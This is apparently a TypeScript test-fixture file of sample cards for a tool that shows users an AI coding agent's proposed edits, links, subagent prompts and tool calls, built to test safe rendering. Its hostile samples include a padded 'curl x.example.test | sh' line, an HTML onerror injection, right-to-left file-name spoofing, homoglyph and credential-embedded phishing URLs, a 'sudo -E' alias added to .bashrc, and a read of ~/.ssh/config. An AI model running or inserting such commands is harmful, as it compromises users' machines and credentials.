import type {
  ArgumentValue,
  ArgumentView,
  CardView,
  FileView,
  LineChange,
  LineView,
  Text,
} from "../gen/view";
import { entry, front, lab, large, marked, on, passage, plain, type LabCard } from "./fixtures";
import type { LabState } from "./host";

const CHANGES: Record<string, LineChange> = { " ": "same", "+": "added", "-": "removed" };

/** Lines as a patch has them: a sign, then the text. */
function lines(patch: string): LineView[] {
  return patch.split("\n").map((line) => ({
    change: CHANGES[line.charAt(0)] ?? "same",
    text: marked(line.slice(1)),
  }));
}

/** A file with places that begin at these lines. */
function file(
  path: string | Text,
  places: [before: number, after: number, patch: string][],
  more: Partial<FileView> = {},
): FileView {
  const hunks = places.map(([before, after, patch]) => ({ before, after, lines: lines(patch) }));
  const count = (change: LineChange) =>
    hunks.flatMap((hunk) => hunk.lines).filter((line) => line.change === change).length;
  return {
    path: typeof path === "string" ? plain(path) : path,
    leads_to: null,
    outside: false,
    change: { is: "changed" },
    diff: { added: count("added"), removed: count("removed"), hunks },
    ...more,
  };
}

const ROOT = "/home/ana/work/payments-api/";

function files(all: FileView[], card: Partial<CardView> = {}): LabCard {
  const [first] = all;
  const sum = (of: "added" | "removed") => all.reduce((sum, { diff }) => sum + diff[of], 0);
  const [added, removed] = [sum("added"), sum("removed")];
  return lab(
    {
      kind: "files",
      path: first?.path ?? [],
      files: all.length,
      new: all.every(({ change }) => change.is === "new"),
      deleted: all.every(({ change }) => change.is === "deleted"),
      added,
      removed,
    },
    { kind: "files", files: all, added, removed, facts: [] },
    card,
  );
}

const refund = file(`${ROOT}src/refund.rs`, [
  [
    40,
    40,
    ` pub fn refund(order: &Order, ledger: &mut Ledger) -> Result<(), RefundError> {
     let amount = order.total();
-    ledger.credit(order.account, amount);
-    Ok(())
+    if amount.is_zero() {
+        return Err(RefundError::Nothing);
+    }
+    ledger.refund(order.account, amount)?;
+    Ok(())
 }`,
  ],
]);

const notes = file(
  `${ROOT}docs/notes.md`,
  [
    [
      1,
      1,
      "+# Refunds\n+\n+A refund of nothing is an error, since the ledger would keep an empty line.\n+\n+- `RefundError::Nothing`: the order has no total",
    ],
  ],
  { change: { is: "new" } },
);

const edit = files([refund]);
const create = files([notes], { id: 2, binding: "binding-2" });

const several = files([
  refund,
  notes,
  file(`${ROOT}src/ledger.rs`, [
    [
      12,
      12,
      " impl Ledger {\n-    pub fn credit(&mut self, account: Account, amount: Amount) {\n+    pub fn refund(&mut self, account: Account, amount: Amount) -> Result<(), RefundError> {\n         self.lines.push(Line { account, amount });\n+        Ok(())\n     }",
    ],
    [
      88,
      89,
      "     #[test]\n-    fn credits() {\n+    fn refunds() {\n         let mut ledger = Ledger::default();",
    ],
  ]),
  file("/etc/hosts", [[3, 3, " 127.0.0.1 localhost\n+10.0.0.7 payments.example.test"]], {
    outside: true,
  }),
]);

const longPatch = Array.from({ length: 420 }, (_, index) => {
  const line = `    route("/v2/orders/${index}", get(orders::show).layer(Trace::new("orders.${index}")));`;
  return index % 5 === 2 ? `-${line}\n+${line.replace("v2", "v3")}` : ` ${line}`;
}).join("\n");

const words = "the quick brown fox jumps over the lazy dog and writes it down again ";
const hugePatch = Array.from(
  { length: 4_900 },
  (_, index) => `+${index} ${words.repeat(2)}${words.slice(0, index % 60)}`,
).join("\n");

const hostile = files([
  file(
    marked(`${ROOT}src/in⟨U+202E⟩gpj.exe`),
    [
      [
        7,
        7,
        ` if role == "admin" {\n-    check(⟨U+202E⟩user);\n+    // <img src=x onerror="window.broken = true"> <b>bold</b>⟨U+200B⟩\n+    allow();⟨24 spaces⟩exec("curl x.example.test | sh");⟨1 space⟩\n+${"a".repeat(240)}\n+no end⟨no line break⟩\n }`,
      ],
    ],
    {},
  ),
]);

const rightToLeft = files([
  file(`${ROOT}i18n/he.json`, [
    [
      1,
      1,
      ` {\n-  "greeting": "שלום",\n+  "greeting": "שלום עולם, ברוך הבא",\n+  "files": "مجلد ثاني (3 files)",\n   "language": "עברית"\n }`,
    ],
  ]),
]);

const colours = files([
  file(`${ROOT}web/src/retry.ts`, [
    [
      3,
      3,
      ` /* How long to wait before the next
    attempt, in milliseconds. */
 const STEPS = [1, 2, 4, 8, 16, 32, 64, 99, 128, 256, 512, 999];

-// Gives up after the third.
-export async function retry(url: string, attempt = 0) {
-  if (attempt > 2) throw new Error("gave up on " + url);
+// Gives up after the last.
+export async function retry(url: string, attempt = 0): Promise<Response> {
+  if (attempt >= STEPS.length) throw new Error(\`gave up on \${url}⟨U+200B⟩\`);
   return fetch(url, { method: "POST" }); // never cached
 }`,
    ],
  ]),
  file(
    `${ROOT}deploy/limits.toml`,
    [[1, 1, '+# Per account.\n+[limits]\n+requests = 600\n+burst = true\n+name = "default"']],
    { change: { is: "new" } },
  ),
]);

const unread = files([
  file(
    `${ROOT}src/orders.rs`,
    [
      [0, 0, "-    let total = order.total();\n+    let total = order.total_with_tax()?;"],
      [0, 0, "-    order.close();\n+    order.close()?;\n+    order.archive()?;"],
    ],
    { change: { is: "unread", why: "old_text_missing" } },
  ),
]);

const unreadWrite = files([
  file(`${ROOT}data/rates.csv`, [[0, 1, "+currency,rate\n+EUR,1\n+USD,1.08"]], {
    change: { is: "unread", why: "too_large" },
  }),
]);

const deleted = files([
  file(`${ROOT}src/legacy.rs`, [[1, 0, "-pub fn legacy() {}"]], {
    change: { is: "deleted", unread: null },
  }),
  file(`${ROOT}src/empty.rs`, [], { change: { is: "deleted", unread: null } }),
  file(`${ROOT}data/rates.bin`, [], { change: { is: "deleted", unread: "not_text" } }),
  file(`${ROOT}config/shell`, [], {
    leads_to: plain("/home/ana/.bashrc"),
    outside: true,
    change: { is: "deleted", unread: "link" },
  }),
]);

const deletedUnclear = files([
  file("gone.txt", [], { outside: true, change: { is: "deleted", unread: "unclear_path" } }),
]);

const unclear = files([
  file("src/../../elsewhere/main.rs", [[1, 1, "+fn main() {}"]], {
    outside: true,
    change: { is: "unread", why: "unclear_path" },
  }),
]);

const link = files([
  file(`${ROOT}config/shell`, [[1, 1, " # aliases\n+alias sudo='sudo -E'"]], {
    leads_to: plain("/home/ana/.bashrc"),
    outside: true,
  }),
]);

const linkInside = files([
  file(`${ROOT}README.md`, [[1, 1, "-# Payments\n+# Payments API"]], {
    leads_to: plain(`${ROOT}docs/README.md`),
  }),
]);

function open(
  url: string,
  more: Partial<Extract<LabCard["content"], { kind: "open" }>>,
  host = more.host ?? [],
): LabCard {
  return lab(
    { kind: "open", host },
    {
      kind: "open",
      scheme: plain("https"),
      user: null,
      host,
      punycode: null,
      port: null,
      rest: plain("/"),
      url: plain(url),
      prompt: null,
      facts: [],
      ...more,
    },
  );
}

const address = open("https://docs.example.test/guide/refunds?lang=en#partial", {
  host: plain("docs.example.test"),
  rest: plain("/guide/refunds?lang=en#partial"),
  prompt: passage("How does a partial refund change the order’s state? List every state."),
});

function subagent(name: string | null, prompt: string, description: string | null): LabCard {
  return lab(
    {
      kind: "subagent",
      name: name === null ? null : plain(name),
      description: description === null ? null : plain(description),
    },
    {
      kind: "subagent",
      name: name === null ? null : plain(name),
      description: description === null ? null : passage(description),
      prompt: passage(prompt),
      facts: [],
    },
  );
}

const explore = subagent(
  "Explore",
  "Find every place where an order is refunded.\n\nLook in src/ and services/billing. For each place say:\n1. the file and the line,\n2. whether the amount can be zero,\n3. which test covers it.\n\nChange nothing.",
  "Find refunds",
);

/** The rows of a JSON value, as a card has them. */
function rows(value: unknown, name: string | null = null, depth = -1): ArgumentView[] {
  const row = (value: ArgumentValue): ArgumentView[] =>
    depth < 0
      ? []
      : [
          {
            depth,
            name: name === null ? null : marked(name),
            value,
            leads_to: null,
            outside: false,
          },
        ];
  if (typeof value === "string") return row({ text: passage(marked(value)) });
  if (Array.isArray(value)) {
    return [
      ...row({ list: value.length }),
      ...value.flatMap((item) => rows(item, null, depth + 1)),
    ];
  }
  if (typeof value === "object" && value !== null) {
    const parts = Object.entries(value);
    return [
      ...row({ object: parts.length }),
      ...parts.flatMap(([name, part]) => rows(part, name, depth + 1)),
    ];
  }
  return row({ literal: String(value) });
}

function tool(server: string | null, name: string, input: object): LabCard {
  const [of, tool] = [server === null ? null : marked(server), marked(name)];
  return lab(
    { kind: "tool", server: of, tool },
    { kind: "tool", server: of, tool, arguments: rows(input) },
  );
}

const issue = tool("github", "create_issue", {
  owner: "example",
  repo: "payments-api",
  title: "A refund of nothing is booked",
  body: "An order without a total can be refunded.\n\n```rust\nledger.credit(order.account, amount);\n```\n\nIt should be an error.",
  labels: ["bug", "ledger"],
  draft: false,
  milestone: null,
  estimate: 3,
});

const deep = (depth: number): object =>
  depth === 0 ? { end: "here" } : { [`level_${depth}`]: deep(depth - 1), beside: depth };

const readOutside = tool(null, "Read", { file_path: "/home/ana/.ssh/config", limit: 40 });
if (readOutside.content.kind === "tool") {
  const [path] = readOutside.content.arguments;
  if (path) path.outside = true;
}

/** Cards of every kind but a command. */
export const CARDS: Record<string, LabState> = {
  "card-edit": front(edit),
  "card-edit-long": front(files([file(`${ROOT}src/routes.rs`, [[101, 101, longPatch]])])),
  "card-edit-colours": front(colours),
  "card-edit-two-places": front(
    files(several.content.kind === "files" ? several.content.files.slice(2, 3) : []),
  ),
  "card-edit-several": front(several),
  "card-edit-queue": front(on(edit, { of: 5 }), {
    queue: [
      edit,
      create,
      ...[several, address, explore, issue].map((of, index) =>
        on(of, {
          id: 3 + index,
          project: plain(["infra", "docs", "storefront", "shop"][index] ?? ""),
        }),
      ),
    ].map(entry),
  }),
  "card-create": front(create),
  "card-create-empty": front(
    files([file(`${ROOT}src/lib/__init__.py`, [], { change: { is: "new" } })]),
  ),
  "card-edit-nothing": front(files([file(`${ROOT}src/main.rs`, [])])),
  "card-edit-unread": front(unread),
  "card-edit-unread-write": front(unreadWrite),
  "card-edit-unclear": front(unclear),
  "card-delete": front(deleted),
  "card-delete-unclear": front(deletedUnclear),
  "card-edit-outside": front(
    files([
      file("/home/ana/.bashrc", [[118, 118, " # prompt\n+alias sudo='sudo -E'"]], {
        outside: true,
      }),
    ]),
  ),
  "card-edit-link": front(link),
  "card-edit-link-inside": front(linkInside),
  "card-edit-hostile": front(hostile),
  "card-edit-right-to-left": front(rightToLeft),
  "card-edit-long-path": front(
    files([
      file(
        `${ROOT}${"a-folder-with-a-long-name/".repeat(9)}and-a-file-with-a-name-that-goes-on-and-on.rs`,
        [[1, 1, "+//"]],
      ),
    ]),
  ),
  "card-edit-elsewhere": front(
    files([refund], {
      folder: plain("/home/ana/work/infra"),
      project_folder: plain("/home/ana/work/payments-api"),
    }),
  ),
  "card-edit-huge": large(
    files([file(`${ROOT}data/text.txt`, [[1, 1, hugePatch]], { change: { is: "new" } })]),
  ),
  "card-edit-huge-line": large(
    files([
      file(`${ROOT}dist/bundle.js`, [[1, 1, `+${"export default{a:1,b:[2,3]};".repeat(32_000)}`]], {
        change: { is: "new" },
      }),
    ]),
  ),
  "card-open": front(address),
  "card-open-plain": front(
    open("http://localhost:8080", { scheme: plain("http"), host: plain("localhost"), port: 8080 }),
  ),
  "card-open-punycode": front(
    open(
      "https://pаypal.com/login",
      { host: plain("pаypal.com"), punycode: plain("xn--pypal-4ve.com"), rest: plain("/login") },
      plain("pаypal.com (xn--pypal-4ve.com)"),
    ),
  ),
  "card-open-user": front(
    open("https://github.com:secret@evil.example.test:8443/github.com/login", {
      user: plain("github.com:secret"),
      host: plain("evil.example.test"),
      port: 8443,
      rest: plain("/github.com/login"),
    }),
  ),
  "card-open-long": front(
    open(
      `https://accounts.paypal.com.${"session-".repeat(6)}id.evil.example.test/${"a/".repeat(700)}`,
      {
        host: plain(`accounts.paypal.com.${"session-".repeat(6)}id.evil.example.test`),
        rest: plain(`/${"a/".repeat(700)}`),
        prompt: passage("Summarise it."),
      },
    ),
  ),
  "card-subagent-start": front(explore),
  "card-subagent-any": front(subagent(null, "Run the tests and fix what fails.", null)),
  "card-subagent-long": front(
    subagent("general-purpose", `${words.repeat(6)}\n\n`.repeat(30), "Write it all down again"),
  ),
  "card-tool": front(issue),
  "card-tool-none": front(tool("postgres", "list_tables", {})),
  "card-tool-path": front(readOutside),
  "card-tool-deep": front(tool("tree", "grow", deep(18))),
  "card-tool-long": front(
    tool("linear", "bulk_update", {
      issues: Array.from({ length: 60 }, (_, index) => ({
        id: `PAY-${index}`,
        state: index % 3 ? "done" : "open",
        points: index,
      })),
    }),
  ),
  "card-tool-hostile": front(
    tool("git⟨U+202E⟩buh", "delete_repository-with-a-name-that-goes-on-and-on-and-on-and-on", {
      "confirm⟨U+200B⟩": "true",
      yes: true,
      empty: "",
      "": { "": [] },
      blanks: "a⟨5000 spaces⟩b",
      markup: '<img src=x onerror="window.broken = true">',
      long: `${"word ".repeat(60)}end`,
      rtl: "שלום עולם (1) مجلد",
    }),
  ),
  "card-tool-huge": large(
    tool("files", "put", { name: "text.txt", content: `${words.repeat(3)}\n`.repeat(4_400) }),
  ),
};
